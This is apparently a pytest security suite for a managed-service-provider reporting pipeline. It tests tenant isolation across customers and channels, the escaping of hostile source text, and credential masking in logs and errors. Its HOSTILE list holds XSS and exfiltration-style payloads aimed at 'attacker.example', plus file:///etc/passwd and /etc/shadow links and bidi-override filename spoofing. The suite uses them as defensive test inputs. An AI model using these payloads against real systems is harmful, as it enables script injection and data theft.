"""Security under real runs: tenant isolation across the 12 customers and every channel, hostile
input from the sources rendered inert with nothing fetched, and no credential in logs, errors or
rendered files (with Airflow's secret masker covering every secret connection field)."""

from __future__ import annotations

import copy
import datetime as dt
import io
import json
import logging
import re
import uuid
from pathlib import Path

import pytest
import yaml
from pypdf import PdfReader

from tests.factories import WEEK_OF

from msp_reports import pipeline
from devtools.chaos import demo_conns
from msp_reports.exceptions import RegistryError, SourceError
from msp_reports.registry import parse_registry
from msp_reports.settings import Settings
from msp_reports.store import ReportStore

from .conftest import REGISTRY, REGISTRY_PATH, clear_faults, demo_connections_for, fault, pdf_text

CHANNELS = ("email", "teams", "archive")


def _run_week(settings: Settings, code: str, *, deliver: bool = True) -> None:
    item = {"customer": code, "week_of": WEEK_OF.isoformat()}
    for domain in pipeline.DOMAINS:
        try:
            pipeline.extract(settings, item, domain)
        except SourceError:
            pass  # stored as unavailable; the report still renders
    pipeline.build_snapshot(settings, item)
    pipeline.render(settings, item)
    if deliver:
        now = pipeline.send_time(settings, item) + dt.timedelta(minutes=1)
        pipeline.check_approval(settings, item, None, now=now)  # the sensor waits before anyone decides
        assert pipeline.check_approval(settings, item, "approve", now=now)[0] == "approved"
        for channel in CHANNELS:
            pipeline.deliver(settings, item, channel)


# ---- registry: one customer per channel, folder, tenant ---------------------------------------
@pytest.fixture
def raw():
    return yaml.safe_load(Path(REGISTRY_PATH).read_text())


def _customer(raw, code):
    return next(c for c in raw["customers"] if c["code"] == code)


SHARED_TARGETS = {
    # kind: (customer whose target is copied, customer that gets it, path in the entry, message part)
    "teams/workflow": ("ACME", "ECHO", ("delivery", "teams"), "delivery.teams.conn_id 'teams_acme'"),
    "teams/graph": ("CNDR", "HTEL", ("delivery", "teams"), "delivery.teams.channel_id"),
    "archive/local": ("ACME", "ECHO", ("delivery", "archive"), "delivery.archive.folder"),
    "archive/sharepoint": ("BRVO", "CNDR", ("delivery", "archive"), "delivery.archive.folder"),
    "archive/drive": ("DLTA", "GOLF", ("delivery", "archive"), "delivery.archive.folder"),
    "security/defender tenant": ("ACME", "BRVO", ("sources", "security"), "sources.security.ref.tenant_id"),
    "security/sentinel workspace": ("HTEL", "INDG", ("sources", "security"), "sources.security.ref.workspace"),
}


@pytest.mark.parametrize("kind", sorted(SHARED_TARGETS))
def test_registry_refuses_two_customers_on_one_target(raw, kind):
    owner, other, (section, key), message = SHARED_TARGETS[kind]
    _customer(raw, other)[section][key] = copy.deepcopy(_customer(raw, owner)[section][key])
    with pytest.raises(RegistryError) as err:
        parse_registry(raw, "customers.yaml")
    assert f"customer '{other}': {message}" in str(err.value)
    assert f"is already used by customer '{owner}'" in str(err.value)


def test_registry_refuses_a_drive_folder_id_shared_under_another_label(raw):
    _customer(raw, "GOLF")["delivery"]["archive"]["folder_id"] = _customer(raw, "DLTA")["delivery"]["archive"]["folder_id"]
    with pytest.raises(RegistryError, match="customer 'GOLF': delivery.archive.folder_id .* already used by customer 'DLTA'"):
        parse_registry(raw, "customers.yaml")


def test_registry_refuses_two_customers_on_one_source_identifier(raw):
    _customer(raw, "BRVO")["sources"]["sites"]["ref"]["zone_id"] = _customer(raw, "ACME")["sources"]["sites"]["ref"]["zone_id"]
    with pytest.raises(RegistryError, match=r"customer 'BRVO': sources.sites.ref \(cloudflare zone_id\).*customer 'ACME'"):
        parse_registry(raw, "customers.yaml")


def test_registry_refuses_one_backup_company_for_two_customers_whatever_the_case(raw):
    acme = _customer(raw, "ACME")["sources"]["backups"]
    bravo = _customer(raw, "BRVO")["sources"]["backups"]
    assert acme["system"] == bravo["system"] == "datto"
    bravo["ref"] = {"client_company": acme["ref"]["client_company"].upper(), "rpo_hours": 12}
    with pytest.raises(RegistryError, match="client_company"):
        parse_registry(raw, "customers.yaml")


# ---- tenant isolation over a full run --------------------------------------------------------
@pytest.fixture(scope="module")
def delivered(sim, tmp_path_factory):
    """All twelve customers extracted, rendered, approved and delivered on every channel."""
    from devtools.inbox import received
    from devtools.simulators.mailsink import MailSink
    from devtools.simulators.server import connection_env

    home = tmp_path_factory.mktemp("isolation")
    settings = Settings(REGISTRY_PATH, str(home / "store"), str(home / "archive"))
    with MailSink(home / "outbox") as mail, pytest.MonkeyPatch.context() as mp:
        for key, value in connection_env(demo_conns(sim, mail, REGISTRY)).items():
            mp.setenv(key, value)
        for c in REGISTRY.customers:
            _run_week(settings, c.code)
        got = {c.code: received(c, WEEK_OF, sim=sim, mail_folder=mail.folder, archive_root=home / "archive",
                                sender=str(REGISTRY.msp.from_email)) for c in REGISTRY.customers}
    return settings, got


def _identifiers(store: ReportStore, customer) -> set[str]:
    """What names this customer: registry identifiers and the names in its own week's data."""
    ids = {customer.code, customer.name, customer.cto.name, str(customer.cto.email),
           customer.delivery.archive.folder.split("/")[0]}
    for sources in customer.sources.values():
        for src in sources:
            ids.update(str(v) for v in src.ref.values())
    d = customer.delivery
    ids.update(filter(None, [d.teams.channel_id, d.archive.folder_id]))
    snap = store.read_json(customer.code, WEEK_OF, "snapshot.json")
    data = {domain: (snap[domain] or {}).get("data") or {} for domain in pipeline.DOMAINS}
    ids.update(r["site"] for r in data["uptime"].get("rows", []))
    ids.update(a["name"] for a in data["backups"].get("assets", []))
    ids.update(i["ref"] for i in data["security"].get("incidents", []))
    ids.update(i["title"] for i in data["security"].get("incidents", []))
    ids.update(s["address"] for s in data["sites"].get("checks", []))
    ids.update(t["title"] for t in data["tickets"].get("changes", []) if "title" in t)
    return {i.strip() for i in ids if i and len(i.strip()) >= 4}


def _artefacts(settings: Settings, got, customer) -> dict[str, str]:
    store = ReportStore(settings.store_root)
    r = got[customer.code]
    out = {
        "report.pdf": pdf_text(store.read_bytes(customer.code, WEEK_OF, "report.pdf")),
        "report.md": store.read_text(customer.code, WEEK_OF, "report.md"),
        "email": "\n".join(m["html"] + "\n" + pdf_text(m["pdf"]) for m in r.emails),
        "teams": "\n".join(json.dumps(p["card"], ensure_ascii=False) for p in r.posts),
        "archive": "\n".join(pdf_text(pdf) for pdf in r.archived),
    }
    return {k: " ".join(v.split()) for k, v in out.items()}


def test_no_customer_appears_in_another_customers_report_email_post_or_archive(delivered):
    settings, got = delivered
    store = ReportStore(settings.store_root)
    ids = {c.code: _identifiers(store, c) for c in REGISTRY.customers}
    owners: dict[str, set[str]] = {}
    for code, values in ids.items():
        for value in values:
            owners.setdefault(value, set()).add(code)
    distinctive = {code: {v for v in values if owners[v] == {code}} for code, values in ids.items()}
    assert all(len(v) >= 8 for v in distinctive.values()), {k: len(v) for k, v in distinctive.items()}
    leaks = []
    checked = 0
    for c in REGISTRY.customers:
        r = got[c.code]
        pdf = store.read_bytes(c.code, WEEK_OF, "report.pdf")
        # the simulators are shared by the session: other tests may have delivered this customer too
        assert [m["pdf"] for m in r.emails].count(pdf) == 1 and pdf in r.archived and r.posts, c.code
        assert all(m["to"] == sorted(str(p.email) for p in (c.cto, c.account_owner)) for m in r.emails), c.code
        for where, text in _artefacts(settings, got, c).items():
            assert text, (c.code, where)
            for other, values in distinctive.items():
                if other == c.code:
                    continue
                for value in values:
                    checked += 1
                    if " ".join(value.split()) in text:
                        leaks.append(f"{other}'s {value!r} in {c.code}'s {where}")
    assert not leaks, leaks[:20]
    assert checked > 12 * 11 * 5 * 8


def test_each_archive_folder_holds_only_its_customer(delivered):
    settings, _ = delivered
    root = Path(settings.archive_root)
    for c in REGISTRY.customers:
        if c.delivery.archive.via != "local":
            continue
        names = [p.name for p in (root / c.delivery.archive.folder).iterdir()]
        assert names and all(n.startswith(f"{c.code}_weekly-report_") for n in names), (c.code, names)


# ---- hostile input from a source ------------------------------------------------------------
ATTACKER = "attacker.example"
HOSTILE = [
    f'<script>fetch("http://{ATTACKER}/steal")</script>Printer offline',
    f'<img src="http://{ATTACKER}/pixel.png" onerror="alert(1)">Firewall',
    f'<a href="file:///etc/passwd">passwd</a> [click](http://{ATTACKER}/md) ![x](https://{ATTACKER}/i.png)',
    f'<link rel="attachment" href="file:///etc/shadow"><style>@import url(http://{ATTACKER}/x.css);</style>',
    "Invoice\u202egnp.exe \x1b[31mred\x1b[0m \x00\x07 bell \u200f rtl",
    "X" * 200_000,
]


@pytest.fixture
def hostile_sim(creds):
    from devtools.simulators.server import SimServer
    from devtools.simulators.world import World

    world = World(WEEK_OF)
    fxtr = world.customers["FXTR"]
    for i, ticket in enumerate(fxtr.tickets):
        ticket.summary = HOSTILE[i % len(HOSTILE)]
    for i, incident in enumerate(fxtr.incidents):
        incident.title = HOSTILE[i % len(HOSTILE)]
    for i, agent in enumerate(fxtr.agents):
        agent.name = HOSTILE[i % len(HOSTILE)][:300] + f" {i}"
    for i, check in enumerate(fxtr.checks):
        check.name = HOSTILE[i % 4]
    with SimServer(world, creds) as server:
        yield server


def test_hostile_source_text_renders_inert_and_fetches_nothing(hostile_sim, settings, set_connections,
                                                               tmp_path, monkeypatch):
    from msp_reports import render
    from msp_reports.render import pdf as render_pdf, report as render_module
    from devtools.inbox import received
    from devtools.simulators.mailsink import MailSink

    asked: list[str] = []
    html_seen: list[str] = []
    real_fetcher, real_to_pdf = render_pdf.templates_fetcher, render_module.html_to_pdf

    def recording_fetcher():
        fetcher = real_fetcher()
        fetch = fetcher.fetch

        def record(url, headers=None):
            asked.append(url)
            return fetch(url, headers)

        fetcher.fetch = record
        return fetcher

    def capture(html):
        html_seen.append(html)
        return real_to_pdf(html)

    # where the code reads them: the PDF writer calls templates_fetcher, render_report calls html_to_pdf
    monkeypatch.setattr(render_pdf, "templates_fetcher", recording_fetcher)
    monkeypatch.setattr(render_module, "html_to_pdf", capture)
    with MailSink(tmp_path / "outbox") as mail:
        set_connections(demo_conns(hostile_sim, mail, REGISTRY))
        _run_week(settings, "FXTR")
        got = received(REGISTRY.get("FXTR"), WEEK_OF, sim=hostile_sim, mail_folder=mail.folder,
                       archive_root=Path(settings.archive_root), sender=str(REGISTRY.msp.from_email))

    store = ReportStore(settings.store_root)
    snap = store.read_json("FXTR", WEEK_OF, "snapshot.json")
    raw_snapshot = json.dumps(snap)
    assert all(snap[d]["status"]["ok"] for d in pipeline.DOMAINS)  # hostile text broke no source
    assert "<script>" in raw_snapshot and ATTACKER in raw_snapshot, raw_snapshot[:3000]  # it did reach us
    pdf = store.read_bytes("FXTR", WEEK_OF, "report.pdf")

    # nothing fetched but the templates (fonts, CSS, logo) and data: URIs
    templates = render.TEMPLATES_DIR.resolve().as_uri()
    assert asked and all(u.startswith(templates + "/") or u.startswith("data:") for u in asked), \
        [u for u in asked if not u.startswith(templates)]
    # no link annotation to anything hostile, no embedded file
    reader = PdfReader(io.BytesIO(pdf))
    uris = [str(a.get_object().get("/A", {}).get("/URI")) for page in reader.pages
            for a in (page.get("/Annots") or []) if a.get_object().get("/A")]
    assert not [u for u in uris if ATTACKER in u or u.startswith("file:")], uris
    assert "/EmbeddedFiles" not in str(reader.trailer["/Root"].get("/Names", {}))
    # the HTML carries the text escaped, never as markup
    html = html_seen[-1]
    assert not re.search(r"<(script|img|link|style|a)\b[^>]*(attacker|file:|alert)", html, re.IGNORECASE)
    assert "&lt;script&gt;" in html
    text = pdf_text(pdf)
    assert "<script>" in text  # shown as the literal characters the source sent
    assert not re.search("[\u202e\u200f\x1b\x00\x07]", text)  # controls and bidi overrides removed
    assert len(reader.pages) < 30  # a 200 kB title is cut, not typeset
    # the email's cover note and the Teams card are inert too
    assert len(got.emails) == 1 and len(got.posts) >= 1
    email_html = got.emails[0]["html"]
    assert not re.search(r"<(script|img|link|style)\b", email_html, re.IGNORECASE)
    assert ATTACKER not in email_html or "&lt;" in email_html
    card = json.dumps(got.posts[-1]["card"])
    assert not re.search(r"\]\((https?|file):", card)  # no Markdown link survives in an Adaptive Card


# ---- secrets --------------------------------------------------------------------------------
def _credential_values(creds) -> set[str]:
    """The secret halves of the demo credentials (not user names, client ids or public keys)."""
    return {str(v) for k, v in creds.to_dict().items()
            if re.search(r"password|secret|private_key|api_key|token|signing_key", k) and len(str(v)) >= 8}


def test_every_secret_connection_field_is_masked_by_airflow():
    """Fields declared as passwords in the connection forms, and every extra of the demo
    connections that holds a credential, are names Airflow's secret masker hides."""
    from airflow.sdk._shared.secrets_masker.secrets_masker import DEFAULT_SENSITIVE_FIELDS, SecretsMasker

    from msp_reports.provider import CONNECTION_TYPES

    masker = SecretsMasker()
    masker.sensitive_variables_fields = list(DEFAULT_SENSITIVE_FIELDS)
    masker.hide_sensitive_var_conn_fields = True
    secret_fields = [(ct["connection-type"], name) for ct in CONNECTION_TYPES
                     for name, field in ct.get("conn-fields", {}).items()
                     if field.get("schema", {}).get("format") == "password"]
    assert secret_fields
    unmasked = [f for f in secret_fields if not masker.should_hide_value_for_key(f[1])]
    assert not unmasked, unmasked


def test_demo_credentials_live_only_in_masked_fields(sim):
    from airflow.sdk._shared.secrets_masker.secrets_masker import DEFAULT_SENSITIVE_FIELDS

    secrets = _credential_values(sim.creds)
    exposed = []
    for conn_id, conn in demo_connections_for(sim).items():
        extra = conn.get("extra") or {}
        extra = json.loads(extra) if isinstance(extra, str) else extra
        for key, value in extra.items():
            blob = json.dumps(value)
            normalized = re.sub(r"\W+", "_", key.lower())
            if any(s in blob for s in secrets) and not any(f in normalized for f in DEFAULT_SENSITIVE_FIELDS):
                exposed.append(f"{conn_id}: extra {key}")
        for field in ("host", "login", "schema"):
            if any(s in str(conn.get(field) or "") for s in secrets):
                exposed.append(f"{conn_id}: {field}")
    assert not exposed, exposed


FAILURES = ("wrong_password", "503", "malformed")


@pytest.mark.parametrize("failure", FAILURES)
def test_no_credential_in_errors_logs_or_reports_on_failure(sim, settings, set_connections, caplog, failure):
    """Every source fails (refused credentials, an outage, a broken body); the errors stored for the
    roll-up, the log records (what a task log holds) and the rendered report carry no credential."""
    caplog.set_level(logging.DEBUG)
    conns = demo_connections_for(sim)
    wrong = f"WRONG-{uuid.uuid4().hex}"
    if failure == "wrong_password":
        for conn in conns.values():
            if conn.get("password"):
                conn["password"] = wrong
    set_connections(conns)
    secrets = _credential_values(sim.creds) | {wrong}
    code = "KILO"  # Zabbix + LibreNMS, ConnectWise, Veeam, Sentinel, UptimeRobot
    others = "GOLF"  # HaloPSA, Defender; and ACME below for Datto, Cloudflare
    errors = []
    try:
        for customer in (code, others, "ACME"):
            if failure != "wrong_password":
                for system in {s.system for ss in REGISTRY.get(customer).sources.values() for s in ss}:
                    fault(sim, system, failure, times=1000)
            item = {"customer": customer, "week_of": WEEK_OF.isoformat()}
            for domain in pipeline.DOMAINS:
                try:
                    pipeline.extract(settings, item, domain)
                except Exception as exc:  # noqa: BLE001 - every message is inspected
                    errors.append(f"{type(exc).__name__}: {exc} {exc.__cause__!r}")
            clear_faults(sim)
            pipeline.build_snapshot(settings, item)
            pipeline.render(settings, item)
    finally:
        clear_faults(sim)
    assert len(errors) >= 10  # every source failed
    store = ReportStore(settings.store_root)
    texts = {"errors": "\n".join(errors), "log": caplog.text}
    for customer in (code, others, "ACME"):
        for name in store.list(customer, WEEK_OF, "sections"):
            texts[f"{customer} {name}"] = store.read_text(customer, WEEK_OF, f"sections/{name}")
        texts[f"{customer} report.md"] = store.read_text(customer, WEEK_OF, "report.md")
        texts[f"{customer} report.pdf"] = pdf_text(store.read_bytes(customer, WEEK_OF, "report.pdf"))
    leaks = [(where, s[:6] + "…") for where, text in texts.items() for s in secrets if s in text]
    assert not leaks, leaks
